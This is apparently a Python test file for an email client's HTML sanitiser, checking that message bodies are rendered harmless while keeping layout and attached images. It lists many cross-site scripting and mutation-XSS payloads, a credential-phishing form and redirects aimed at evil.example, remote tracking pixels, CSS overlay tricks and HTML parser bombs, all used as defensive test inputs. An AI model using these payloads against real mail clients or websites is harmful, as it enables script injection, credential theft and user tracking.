"""HTML bodies: harmless, silent, and still what the sender meant."""

from __future__ import annotations

import re

import pytest

from dokos_mail.engine.message.html import safe_style, sanitise, text_to_html
from dokos_mail.engine.message.markup import MAX_DEPTH
from dokos_mail.engine.message.text import html_to_text, unflowed

ATTACKS = [
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)><script>alert(1)</script></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
	"<a href=javascript:alert(1)>x</a>",
	"<a href='java\nscript:alert(1)'>x</a>",
	"<a href='&#106;avascript:alert(1)'>x</a>",
	"<a href='\x01javascript:alert(1)'>x</a>",
	"<a href='data:text/html,<script>alert(1)</script>'>x</a>",
	"<a href='vbscript:x'>x</a>",
	"<form action=https://evil.example><input name=password><button>ok</button></form>",
	"<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<base href=https://evil.example>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
	"<div style='background:url(https://evil.example/x)'>x</div>",
	"<div style='background:u\\72l(https://evil.example/x)'>x</div>",
	"<div style='width:expression(alert(1))'>x</div>",
	"<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
	"<div style='margin-top:-500px'>x</div>",
	"<div style='font-family:\"x;position:fixed\"'>x</div>",
	"<img src=https://evil.example/pixel.gif>",
	"<img src=//evil.example/pixel.gif>",
	"<img srcset='https://evil.example/x 2x'>",
	"<picture><source srcset=https://evil.example/x><img src=https://evil.example/x></picture>",
	"<video poster=https://evil.example/x src=https://evil.example/x autoplay></video>",
	"<audio src=https://evil.example/x autoplay>",
	"<table background=https://evil.example/x><td background=https://evil.example/x>x</table>",
	"<body background=https://evil.example/x onload=alert(1)>x</body>",
	"<input type=image src=https://evil.example/x>",
	"<img src='/api/method/logout'>",
	"<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
	"<img src='data:text/html;base64,PHN2Zy8+'>",
	"<a id=x name=y class=z href=https://ok.example onclick=alert(1) ping=https://evil.example>x</a>",
	"<img data-remote-src='javascript:alert(1)' src=x>",
	"<p title='\"><script>alert(1)</script>'>x</p>",
	"<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
	"<template><script>alert(1)</script></template>",
	"<select><option><style></select><img src=x onerror=alert(1)></style>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[><img src=x onerror=alert(1)>]]>",
	"<?xml version='1.0'?><?php x ?><p>x",
	"<a href=https://ok.example style='display:block;position:absolute;inset:0'>x</a>",
]

_LOADS = re.compile(r"\s(?:src|srcset|poster|background|data|action|ping|code|codebase|lowsrc|dynsrc|formaction)\s*=", re.I)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_attack_is_harmless(attack: str) -> None:
	html = sanitise(f"before {attack} after")
	tags = " ".join(re.findall(r"<[^>]*>", html))
	assert not re.search(r"\son\w+\s*=|javascript:|vbscript:|expression|url\(|position|@import|data:text|svg", tags, re.I), html
	assert not re.search(
		r"<(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|video|audio|source)\b", tags, re.I
	)
	assert not _LOADS.search(tags), html
	assert not re.search(r"margin[^;]*-\d", tags)
	assert "before" in html


def test_what_runs_is_not_read_either() -> None:
	"""The text of scripts and style sheets is not meant for the reader."""
	html = sanitise("<style>p{color:red}</style><p>Bonjour</p><script>alert(1)</script><title>titre</title>")
	assert re.sub(r"<[^>]*>", "", html) == "Bonjour"


@pytest.mark.parametrize(
	"html", ['"<script>alert(1)</script>"', '{"a": "<img src=x onerror=alert(1)>"}', "[1]", "null", '"\\u003cscript>"']
)
def test_html_that_is_json_as_well(html: str) -> None:
	"""Flaw 29: the hosts leave alone what can be read as JSON."""
	assert not re.search(r"<script|onerror", sanitise(html))


def test_remote_images_wait() -> None:
	html = sanitise(
		'<img src="https://x.example/a.png?a=1&amp;b=2" alt="logo"><table background="https://x.example/b.png"><tr><td>x</table>'
	)
	assert 'data-remote-src="https://x.example/a.png?a=1&amp;b=2"' in html
	assert 'alt="logo"' in html
	assert 'data-remote-background="https://x.example/b.png"' in html
	assert not _LOADS.search(html)


def test_inline_images_by_their_whole_content_id() -> None:
	images = {"1": "/private/files/one.png", "10": "/private/files/ten.png", "a@b": "/private/files/ab.png"}
	html = sanitise('<img src="cid:10"><img src="cid:1"><img src="CID:a%40b"><img src="cid:100" alt="lost">', images=images)
	assert re.findall(r'src="([^"]*)"', html) == ["/private/files/ten.png", "/private/files/one.png", "/private/files/ab.png"]
	assert '<img alt="lost">' in html


def test_a_content_id_in_the_text_stays() -> None:
	assert "cid:1 and cid:10" in sanitise("<p>cid:1 and cid:10</p>", images={"1": "/x"})


def test_data_images_of_safe_types_stay() -> None:
	assert 'src="data:image/png;base64,iVBORw0KGgo="' in sanitise('<img src="data:image/png;base64,iVBORw0KGgo=">')


def test_links_open_elsewhere_and_tell_nothing() -> None:
	html = sanitise('<a href="https://dokos.io/?a=1&amp;b=2" target="_top" rel="opener">x</a>')
	assert 'target="_blank"' in html and 'rel="noopener noreferrer"' in html and 'href="https://dokos.io/?a=1&amp;b=2"' in html
	assert 'href="mailto:a@b.c"' in sanitise('<a href="mailto:a@b.c">x</a>')
	assert "href" not in sanitise('<a href="/app/user">x</a><a href="#x">y</a>')


def test_looks_stay() -> None:
	html = sanitise(
		'<table width="600" bgcolor="#fff"><tr><td colspan="2" style="color: #333; padding: 4px 8px; FONT-SIZE:12px">x</td></tr></table>'
	)
	assert 'width="600"' in html and 'bgcolor="#fff"' in html and 'colspan="2"' in html
	assert 'style="color: #333; padding: 4px 8px; font-size: 12px"' in html


@pytest.mark.parametrize(
	("style", "expected"),
	[
		("color:red", "color: red"),
		("color:red;position:absolute", "color: red"),
		("background:#fff url(x)", ""),
		("background: #fff", "background: #fff"),
		("color: rgb(1, 2, 3)", "color: rgb(1, 2, 3)"),
		("color: calc(1)", ""),
		("margin: 0 -10px", ""),
		("display: none", "display: none"),
		("display: contents", ""),
		("font-family: 'Segoe UI', Arial", "font-family: 'Segoe UI', Arial"),
		("width: 99999px", ""),
		("color: r\\65 d", ""),
		("color: red /* x */", ""),
		("--x: 1", ""),
		("", ""),
		(";;;", ""),
	],
)
def test_styles(style: str, expected: str) -> None:
	assert safe_style(style) == expected


@pytest.mark.parametrize(
	"html",
	[
		"<div>" * 100_000 + "deep",
		"".join(f"<b id={n}>" for n in range(3000)) + "<p>x" * 5000,
		"<table><tr><td>" * 20_000,
		"&" * 500_000,
		"<" * 500_000,
		"<a" * 100_000,
	],
	ids=["deep", "reopened", "tables", "references", "open", "cut"],
)
@pytest.mark.timeout(20)
def test_bombs(html: str) -> None:
	assert len(sanitise(html)) < 10 * len(html) + 1000
	assert len(html_to_text(html)) <= len(html)


def test_depth_is_cut_and_text_kept() -> None:
	html = sanitise("<div>" * (MAX_DEPTH + 100) + "deep" + "</div>" * (MAX_DEPTH + 100))
	assert html.count("<div>") == MAX_DEPTH
	assert "deep" in html


def test_text_as_html() -> None:
	assert text_to_html("a < b\n") == '<div style="white-space: pre-wrap">a &lt; b\n</div>'


def test_html_as_text() -> None:
	html = (
		"<html><head><title>t</title><style>p{}</style></head><body><h1>Devis</h1><p>Bonjour<br>Jean&nbsp;!</p><ul><li>un<li>deux</ul>"
		"<blockquote>cité</blockquote><a href='https://dokos.io/'>site</a> <a href='mailto:a@b'>a@b</a><pre>l1\n  l2</pre><!-- no -->1 &lt; 2</body></html>"
	)
	assert (
		html_to_text(html)
		== "Devis\n\nBonjour\nJean !\n\n- un\n- deux\n\n> cité\n\nsite <https://dokos.io/> a@b\nl1\n  l2\n1 < 2"
	)


@pytest.mark.parametrize(
	("text", "delsp", "expected"),
	[
		("one \ntwo\nthree\n", False, "one two\nthree\n"),
		("one \ntwo\n", True, "onetwo\n"),
		(" From x\n  indented\n", False, "From x\n indented\n"),
		("a \n> q \n> r\nb\n", False, "a \n> q \n> r\nb\n"),
		("a \n-- \nJean \nD\n", False, "a \n-- \nJean D\n"),
	],
)
def test_flowed(text: str, delsp: bool, expected: str) -> None:
	assert unflowed(text, delsp) == expected


ENCLOSED = {
	"fond@x": "/private/files/fond d'été (1).png",
	"http://site.test/img.gif": "/private/files/img.gif",
	"b.png": "/private/files/b.png",
}


@pytest.mark.parametrize(
	("html", "shown"),
	[
		(
			"<td style='background:url(cid:fond@x) no-repeat'>x</td>",
			"url('/private/files/fond%20d%27%C3%A9t%C3%A9%20%281%29.png') no-repeat",
		),
		("<div style='background-image: url(\"cid:fond@x\"); color: red'>x</div>", "/private/files/fond%20d%27"),
		("<table background='cid:b.png'><tr><td>x</table>", 'background="/private/files/b.png"'),
		("<img src='http://site.test/img.gif'>", 'src="/private/files/img.gif"'),
		("<img src='b.png'>", 'src="/private/files/b.png"'),
	],
)
def test_images_that_came_with_the_message_are_shown_wherever_they_stand(html: str, shown: str) -> None:
	"""By Content-ID or Content-Location, in styles and attributes."""
	html = f"<table><tr>{html}</table>" if html.startswith("<td") else html
	assert shown in sanitise(html, images=ENCLOSED).replace("&#x27;", "'").replace("&#39;", "'")


@pytest.mark.parametrize(
	"style",
	[
		"background: url(cid:autre@x)",
		"background: url(https://evil.example/x)",
		"background: url(cid:fond@x) url(https://evil.example/x)",
		"background-image: url(cid:fond@x), url('https://evil.example/x')",
		"background: url(cid:fond@x) -100px 0",
		"list-style-image: url(cid:fond@x)",
		"width: url(cid:fond@x)",
		"background: u\\72l(cid:fond@x)",
		"background: image-set('cid:fond@x' 1x)",
	],
)
def test_nothing_else_gets_in_by_a_background(style: str) -> None:
	assert safe_style(style, ENCLOSED) == ""
